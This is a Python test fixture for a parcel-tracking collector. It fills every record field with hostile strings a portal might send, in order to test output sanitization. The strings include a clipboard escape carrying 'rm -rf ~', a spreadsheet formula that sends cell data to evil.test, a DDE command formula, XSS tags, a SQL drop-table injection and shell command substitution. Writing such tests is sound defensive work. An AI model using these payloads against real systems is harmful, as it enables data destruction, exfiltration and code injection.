"""What a hostile portal may put into a field, and one that puts it into all of them."""

import unicodedata

from collector.store.opening import open_store
from tests.collector.worlds import CAINIAO, CORREOS, ORDER, event, naming, record, take_in

#: Each with what it would do where it came out as it is.
TEXTS = {
    "clears the screen": "Arrived\x1b[2J\x1b[H",
    "writes the clipboard": "Arrived\x1b]52;c;cm0gLXJmIH4=\x07",
    "makes a link": "Arrived\x1b]8;;https://evil.test\x1b\\here\x1b]8;;\x1b\\",
    "one byte controls": "Arrived\x9b31m\x90q\x9c",
    "turns the order": "Arrived \u202edetrevni\u202c \u2066\u2067\u2069 \u061c",
    "hidden": "Arr\u200biv\u00aded\u2060\ufeff\U000e0041",
    "lines of its own": "Arrived\r\n!! contradiction: none\u2028ok   database: sound\u2029\x0b\x0c\x85",
    "deletes": "Arrived\x7f\x08\x08\x08",
    "a formula": '=HYPERLINK("https://evil.test?"&A1,"Arrived")',
    "another formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "markup of the terminal library": "[bold red]Arrived[/] [link=https://evil.test]x[/link] :warning:",
    "a statement": "Arrived'); drop table visits; --",
    "a command": "Arrived $(touch /tmp/x) `id` ; & | > < * ?",
    "a placeholder": "Arrived {parcel} %s %(x)s ${HOME} {0.__class__}",
    "far too long": "Arrived " + "x" * 9_000,
    "towers": "Arr" + "\u0301" * 3_000,
}
STEERING = frozenset({"Cc", "Cf", "Cs", "Co", "Zl", "Zp"})


def steering(text, kept="\n"):
    """What in `text` steers a terminal."""
    return {repr(c) for c in text if c not in kept and unicodedata.category(c) in STEERING}


def records():
    """A parcel that two portals show, with every text in every field there is."""
    shown = [
        event("2026-02-27 18:00:00", text, place=text, code=text, utc_offset=text) for text in TEXTS.values()
    ]
    first = naming(CAINIAO, CORREOS, events=shown, order_ids=[ORDER])
    for n, text in enumerate(TEXTS.values()):
        more = {
            "status": text,
            "language": text,
            "url": text,
            "origin_country": text,
            "pickup_point": text,
            "note": text,
            "seen_at": f"2026-03-01T11:{n:02}:00Z",
        }
        yield first | more
    times = [event(text[:200], "Llegada a España", place=text) for text in TEXTS.values()]
    yield record("correos", CORREOS, events=[event("27/02/2026 11:00:00", "Llegada a España"), *times])


def filled(database):
    """The database with that parcel."""
    with open_store(database) as db:
        take_in(db, records())
        db.execute("update parcels set title = ?", [" ".join(text[:300] for text in TEXTS.values())])
    return database
